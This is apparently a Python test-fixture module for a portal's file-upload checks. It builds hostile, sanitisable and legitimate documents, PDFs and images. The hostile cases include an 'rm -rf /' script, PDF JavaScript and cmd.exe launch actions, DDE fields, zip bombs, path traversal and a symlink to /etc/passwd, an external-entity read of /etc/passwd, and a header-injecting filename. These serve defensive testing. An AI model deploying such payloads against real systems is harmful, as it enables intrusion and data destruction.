"""What a portal is sent: files that must not pass, and files that must."""

import io
import struct
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from functools import partial

import xlsxwriter

from cites.core.ods import ods
from cites.core.pdf import compile_pdf
from tests.uploads import making
from tests.uploads.making import (
    ODS,
    SCRIPT,
    archive,
    chunk,
    docx,
    exif,
    jpeg,
    object_stream,
    odf,
    pdf,
    png,
    relations,
    segment,
    stream,
    xlsx,
)

HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EXE = b"MZ\x90\0" + b"\0" * 600
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /Type /Action /S /Launch /F (cmd.exe) >>"


def instruction(*parts: str) -> str:
    return "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)


def bomb() -> bytes:
    """A hundred million spaces in a hundred kilobytes, as a Word document."""
    out = io.BytesIO(docx())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as file,
        file.open("word/media.xml", "w") as part,
    ):
        for _ in range(110):
            part.write(b" " * 1_000_000)
    return out.getvalue()


def lying(content: bytes, name: str, told: int) -> bytes:
    """The same archive, whose directory and headers tell another size for that part."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        true = file.getinfo(name).file_size
    return content.replace(struct.pack("<I", true), struct.pack("<I", told))


def symlink() -> bytes:
    out = io.BytesIO(docx())
    link = zipfile.ZipInfo("word/link.xml")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(out, "a") as file:
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def renamed(content: bytes, before: bytes, after: bytes) -> bytes:
    """A member of the archive under a name of the same length that no writer would give."""
    assert len(before) == len(after)
    return content.replace(before, after)


def flagged(content: bytes) -> bytes:
    """Marked as encrypted, in its headers and in its directory."""
    out = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(mark)
        while start >= 0:
            out[start + at] |= 1
            start = out.find(mark, start + 4)
    return bytes(out)


def twice() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as file:
        file.writestr("word/DOCUMENT.xml", "<a/>")
    return out.getvalue()


# name of the case: (name of the file, its bytes); none of these is stored
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # not a format of ours, whatever the name says
    "html": ("page.html", lambda: HTML),
    "svg": ("logo.svg", lambda: SVG),
    "xhtml": ("page.xhtml", lambda: HTML),
    "executable": ("facture.exe", lambda: EXE),
    "script shell": ("lancer.sh", lambda: b"#!/bin/sh\nrm -rf /"),
    "zip": ("pieces.zip", lambda: archive({"a.txt": "a"})),
    "sans extension": ("statuts", pdf),
    "caché": (".pdf", pdf),
    "double extension": ("facture.pdf.exe", lambda: EXE),
    "extension retournée": ("facture\u202efdp.exe", lambda: EXE),
    "ancien Word": ("statuts.doc", lambda: OLE),
    "Word à macros": ("statuts.docm", lambda: docx(main=MACRO_WORD)),
    # the name and the bytes disagree
    "html en pdf": ("statuts.pdf", lambda: HTML),
    "html en jpeg": ("photo.jpg", lambda: HTML),
    "svg en png": ("logo.png", lambda: SVG),
    "exécutable en pdf": ("statuts.pdf", lambda: EXE),
    "OLE en docx": ("statuts.docx", lambda: OLE),
    "gif et script en png": ("image.png", lambda: b"GIF89a=1;" + SCRIPT),
    "xml et feuille de style": ("budget.ods", lambda: b'<?xml-stylesheet href="x.xsl"?>' + HTML),
    "xlsx en docx": ("statuts.docx", xlsx),
    "docx en xlsx": ("budget.xlsx", docx),
    "odt en ods": ("budget.ods", odf),
    "zip quelconque en docx": ("statuts.docx", lambda: archive({"a.txt": "a"})),
    "vide": ("statuts.pdf", lambda: b""),
    "un octet de trop": ("statuts.pdf", lambda: pdf() + b"\n" * (10_000_001 - len(pdf()))),
    # PDF
    "pdf tronqué": ("statuts.pdf", lambda: pdf()[:-40]),
    "pdf et html": ("statuts.pdf", lambda: pdf(tail=HTML)),
    "pdf et zip": ("statuts.pdf", lambda: pdf(tail=archive({"a.js": "alert(1)"}))),
    "html puis pdf": ("statuts.pdf", lambda: HTML + pdf()),
    "pdf à script": ("statuts.pdf", lambda: pdf(JS)),
    "pdf à script, écrit autrement": ("statuts.pdf", lambda: pdf(JS.replace(b"/JavaScript", b"/J#61vaScript"))),
    "pdf à script, comprimé": ("statuts.pdf", lambda: pdf(object_stream(JS))),
    "pdf à script, comprimé en clair": (
        "statuts.pdf",
        lambda: pdf(stream(b"9 0 " + JS, b"/Type /ObjStm /N 1 /First 4 ", packed=False)),
    ),
    "pdf à script, comprimé deux fois": (
        "statuts.pdf",
        lambda: pdf(object_stream(JS).replace(b"/FlateDecode", b"[/ASCIIHexDecode /FlateDecode]")),
    ),
    "pdf à script, dictionnaire caché par un texte": (
        "statuts.pdf",
        lambda: pdf(object_stream(JS, b"/Filter /FlateDecode /X (obj << ) ").replace(b"/Filter /FlateDecode ", b"", 1)),
    ),
    "pdf qui lance": ("statuts.pdf", lambda: pdf(LAUNCH)),
    "pdf et fichier joint": ("statuts.pdf", lambda: pdf(stream(EXE, b"/Type /EmbeddedFile "))),
    "pdf qui envoie": ("statuts.pdf", lambda: pdf(b"<< /S /SubmitForm /F (https://ailleurs.example) >>")),
    "pdf à formulaire XFA": ("statuts.pdf", lambda: pdf(b"<< /XFA 5 0 R >>")),
    "pdf chiffré": ("statuts.pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R")),
    "pdf bombe": ("statuts.pdf", lambda: pdf(object_stream(b" " * 12_000_000))),
    # pictures
    "png démesuré": ("photo.png", lambda: png(width=13_000, height=13_000, data=b"")),
    "jpeg démesuré": ("photo.jpg", lambda: jpeg(width=13_000, height=13_000)),
    "png de taille nulle": ("photo.png", lambda: png(width=0)),
    "png bombe": ("photo.png", lambda: png(data=b"\0" * 30_000_000)),
    "png tronqué": ("photo.png", lambda: png()[:-20]),
    "png à la somme fausse": ("photo.png", lambda: png().replace(b"IDAT", b"IDAT\x00"[:4])[:-5] + b"\0\0\0\0\0"),
    "png aux pixels qui manquent": ("photo.png", lambda: png(data=b"\0")),
    "png à l'en-tête inconnu": ("photo.png", lambda: png(chunk(b"ABCD", b"x"))),
    "jpeg tronqué": ("photo.jpg", lambda: jpeg()[:-2]),
    "jpeg sans image": ("photo.jpg", lambda: b"\xff\xd8\xff\xd9"),
    "jpeg au segment trop long": ("photo.jpg", lambda: b"\xff\xd8\xff\xe0\xff\xff\xff\xd9"),
    # texts and spreadsheets
    "docm renommé": ("statuts.docx", lambda: docx(main=MACRO_WORD)),
    "docx à macros": (
        "statuts.docx",
        lambda: docx(more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ),
    "docx et vbaProject": ("statuts.docx", lambda: docx(parts={"word/vbaProject.bin": OLE})),
    "xlsm renommé": ("budget.xlsx", lambda: xlsx(main=MACRO_EXCEL)),
    "xlsx à macros 4.0": ("budget.xlsx", lambda: xlsx(parts={"xl/macrosheets/sheet1.xml": "<a/>"})),
    "docx au modèle distant": (
        "statuts.docx",
        lambda: docx(rels=relations(("attachedTemplate", "https://ailleurs.example/m.dotm", True))),
    ),
    "docx à l'image distante": (
        "statuts.docx",
        lambda: docx(rels=relations(("image", "https://ailleurs.example/i.png", True))),
    ),
    "docx à l'image d'un serveur de fichiers": (
        "statuts.docx",
        lambda: docx(rels=relations(("image", "\\\\ailleurs.example\\i.png", False))),
    ),
    "docx au lien javascript": (
        "statuts.docx",
        lambda: docx(rels=relations(("hyperlink", "javascript:alert(1)", True))),
    ),
    "docx DDE": ("statuts.docx", lambda: docx(instruction("DDEAUTO cmd.exe"))),
    "docx DDE en morceaux": ("statuts.docx", lambda: docx(instruction("DD", "EA", "UTO cmd.exe"))),
    "docx DDE en champ simple": ("statuts.docx", lambda: docx('<w:fldSimple w:instr=" DDE cmd "/>')),
    "docx et objet OLE": ("statuts.docx", lambda: docx(parts={"word/embeddings/oleObject1.bin": OLE})),
    "docx et exécutable": ("statuts.docx", lambda: docx(parts={"word/media/image1.png": EXE})),
    "xlsx au classeur lié": (
        "budget.xlsx",
        lambda: xlsx(
            parts={"xl/externalLinks/_rels/e.xml.rels": relations(("externalLinkPath", "file:///c:/autre.xlsx", True))}
        ),
    ),
    "xlsx DDE": ("budget.xlsx", lambda: xlsx(parts={"xl/externalLinks/e.xml": '<e><ddeLink ddeService="cmd"/></e>'})),
    "odt à macros": ("projet.odt", lambda: odf(parts={"Basic/Standard/Module1.xml": "<a/>"})),
    "odt qui réagit": ("projet.odt", lambda: odf(body='<script:event-listener script:event-name="x"/>')),
    "odt au lien de macro": (
        "projet.odt",
        lambda: odf(body='<text:a xlink:href="vnd.sun.star.script:M.m?language=Basic"/>'),
    ),
    "odt à l'image distante": ("projet.odt", lambda: odf(body='<draw:image xlink:href="https://ailleurs.example/i"/>')),
    "ods DDE": ("budget.ods", lambda: odf(ODS, '<office:dde-source office:dde-application="cmd"/>')),
    "odt chiffré": ("projet.odt", lambda: odf(manifest="<m:encryption-data/>")),
    "zip chiffré": ("statuts.docx", lambda: flagged(docx())),
    "docx bombe": ("statuts.docx", bomb),
    "docx à la taille fausse": ("statuts.docx", lambda: lying(docx("x" * 5_000), "word/document.xml", 70)),
    "trop de parties": ("statuts.docx", lambda: docx(parts={f"word/p{n}.txt": "" for n in range(2_001)})),
    "trop d'éléments": ("budget.xlsx", lambda: xlsx("".join(f"<c r='A{n}'/>" for n in range(300_001)))),
    "zip dans le zip": ("statuts.docx", lambda: docx(parts={"word/suite.zip": archive({"a": "a"})})),
    "zip dans le zip, sans le dire": ("statuts.docx", lambda: docx(parts={"word/media/i.png": archive({"a": "a"})})),
    "sortie du dossier": ("statuts.docx", lambda: docx(parts={"../../etc/cron.d/x": "a"})),
    "chemin absolu": ("statuts.docx", lambda: docx(parts={"/etc/passwd": "a"})),
    "chemin de Windows": (
        "statuts.docx",
        lambda: renamed(docx(parts={"word/aaaaaa": "a"}), b"word/aaaaaa", b"c:\\win\\aaaa"),
    ),
    "lien symbolique": ("statuts.docx", symlink),
    "deux fois la même partie": ("statuts.docx", twice),
    "zip et suite": ("statuts.docx", lambda: docx() + HTML),
    "zip et avant": ("statuts.docx", lambda: b"PK\x03\x04" + HTML + docx()),
    "zip tronqué": ("statuts.docx", lambda: docx()[:-30]),
    "entités": (
        "statuts.docx",
        lambda: docx(parts={"word/a.xml": '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY c "&b;&b;">]><a>&c;</a>'}),
    ),
    "entité externe": (
        "projet.odt",
        lambda: odf(parts={"meta.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    ),
    "xml mal formé": ("projet.odt", lambda: odf(body="<text:p>")),
}

LONG = "é" * 300
# name of the case: (name as sent, bytes, name as kept); stored, with what was hostile in them gone
NEUTRALISED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "png et html": ("photo.png", lambda: png(tail=HTML), "photo.png"),
    "png et script dans un texte": ("photo.png", lambda: png(chunk(b"tEXt", b"Comment\0" + SCRIPT)), "photo.png"),
    "png et script dans un bloc privé": ("photo.png", lambda: png(chunk(b"prVt", SCRIPT)), "photo.png"),
    "jpeg et html": ("photo.jpg", lambda: jpeg(tail=HTML), "photo.jpg"),
    "jpeg et zip": ("photo.jpg", lambda: jpeg(tail=archive({"a.js": SCRIPT})), "photo.jpg"),
    "jpeg et script en commentaire": ("photo.jpg", lambda: jpeg(segment(0xFE, SCRIPT)), "photo.jpg"),
    "jpeg et script en APP13": ("photo.jpg", lambda: jpeg(segment(0xED, SCRIPT)), "photo.jpg"),
    "chemin": ("../../etc/passwd/statuts.pdf", pdf, "statuts.pdf"),
    "chemin Windows": ("C:\\Users\\x\\statuts.pdf", pdf, "statuts.pdf"),
    "retour à la ligne": ("statuts\r\nSet-Cookie: a=b.pdf", pdf, "statutsSet-Cookie- a=b.pdf"),
    "nul": ("statuts\x00.exe.pdf", pdf, "statuts\ufffd-exe.pdf"),
    "sens d'écriture": ("statuts\u202efdp.pdf", pdf, "statutsfdp.pdf"),
    "nom réservé": ("CON.pdf", pdf, "document-CON.pdf"),
    "trop long": (f"{LONG}.pdf", pdf, "é" * 96 + ".pdf"),
    "guillemets": ('a"b<c>.pdf', pdf, "a-b-c-.pdf"),
    "extension cachée": ("facture.exe.pdf", pdf, "facture-exe.pdf"),
    "majuscules": ("STATUTS.PDF", pdf, "STATUTS.pdf"),
}


def workbook(**options: object) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, **options})
    sheet = book.add_worksheet("Budget")
    for row, (name, amount) in enumerate((("Achats", 1200), ("Salaires", 6400))):
        sheet.write(row, 0, name)
        sheet.write(row, 1, amount)
    sheet.write_formula(3, 1, "=SUM(B1:B2)")
    sheet.write_url(5, 0, "https://www.valenton.fr/")
    book.add_chart({"type": "column"}).add_series({"values": "=Budget!$B$1:$B$2"})
    book.close()
    return out.getvalue()


def releve() -> bytes:
    """A document of the portal itself, several pages long."""
    facts = [[f"Article {n}", "L'association a pour objet l'accompagnement à la scolarité. " * 4] for n in range(120)]
    data = {"title": "Statuts", "organisation": "Les Passerelles", "facts": facts}
    return compile_pdf("demo_document", data, at=datetime(2026, 1, 5, tzinfo=UTC))


HEADING = '<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>Projet associatif</w:t></w:r></w:p>'
PAGE_FIELD = f"<w:p>{instruction(' PAGE ')}{instruction(' TOC -o &quot;1-3&quot; ')}</w:p>"
LINKED = relations(("hyperlink", "https://www.valenton.fr/", True), ("hyperlink", "mailto:a@b.fr", True))

# name of the case: (name of the file, its bytes); all of these are kept as they are
LEGITIMATE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf simple": ("statuts.pdf", pdf),
    "pdf du portail": ("statuts.pdf", making.typst_pdf),
    "pdf de plusieurs pages": ("rapport d'activité 2025.pdf", releve),
    "pdf à objets comprimés": ("statuts v2.1.pdf", lambda: pdf(object_stream(b"<< /Type /Outlines >>"))),
    "pdf à liens": ("statuts.pdf", lambda: pdf(b"<< /S /URI /URI (https://www.valenton.fr) >>")),
    "pdf au sommaire": (
        "statuts.pdf",
        lambda: pdf(b"<< /First 5 0 R >>", stream(b"q 1 0 0 1 0 0 cm Q")),
    ),
    "pdf et fin de ligne": ("statuts.pdf", lambda: pdf(tail=b"\r\n")),
    "pdf numérisé": ("RIB.pdf", lambda: pdf(stream(jpeg(), b"/Subtype /Image /Filter /DCTDecode ", packed=False))),
    "docx simple": ("projet.docx", docx),
    "docx à titres et sommaire": ("projet.docx", lambda: docx(HEADING + PAGE_FIELD)),
    "docx à liens": ("projet.docx", lambda: docx(rels=LINKED)),
    "docx à image": ("projet.docx", lambda: docx(parts={"word/media/image1.png": png()})),
    "xlsx de la main": ("budget.xlsx", xlsx),
    "xlsx d'un tableur": ("budget.xlsx", workbook),
    "xlsx aux textes à part": ("Budget prévisionnel (été).xlsx", lambda: workbook(constant_memory=True)),
    "odt simple": ("projet.odt", odf),
    "odt à liens et images": (
        "projet.odt",
        lambda: odf(
            body='<text:a xlink:href="https://www.valenton.fr/">v</text:a><draw:image xlink:href="Pictures/1.png"/>',
            parts={"Pictures/1.png": png()},
        ),
    ),
    "ods simple": ("budget.ods", lambda: odf(ODS, "<table:table/>")),
    "ods du portail": ("budget.ods", lambda: ods("Budget", [])),
    "png en couleurs": ("logo.png", png),
    "png transparent entrelacé": (
        "logo.png",
        lambda: png(width=1, height=1, colour=6, interlaced=1, data=b"\0\1\2\3\4"),
    ),
    "jpeg": ("photo.jpg", jpeg),
}


def turned(orientation: int) -> bytes:
    return jpeg(segment(0xE1, exif(orientation)))


# Pictures that come with what a camera writes, and leave without.
CAMERAS: dict[str, Callable[[], bytes]] = {
    **{f"EXIF, orientation {n}": partial(turned, n) for n in (1, 3, 6, 8)},
    "EXIF dans l'autre sens": lambda: jpeg(segment(0xE1, exif(6, order="<"))),
    "XMP": lambda: jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + making.GPS)),
    "IPTC": lambda: jpeg(segment(0xED, b"Photoshop 3.0\0" + making.GPS)),
    "vignette": lambda: jpeg(segment(0xE0, b"JFXX\0\x10" + making.GPS)),
    "plusieurs images": lambda: jpeg(segment(0xE2, b"MPF\0" + making.GPS), tail=jpeg(segment(0xE1, exif()))),
    "vidéo accolée": lambda: jpeg(tail=b"ftypmp42" + making.GPS),
}
CAMERAS_PNG: dict[str, Callable[[], bytes]] = {
    "eXIf": lambda: png(chunk(b"eXIf", exif()[6:])),
    "iTXt": lambda: png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + making.GPS)),
    "tIME": lambda: png(chunk(b"tIME", b"\x07\xea\x0b\x18\x0c\0\0"), chunk(b"zTXt", making.GPS)),
}
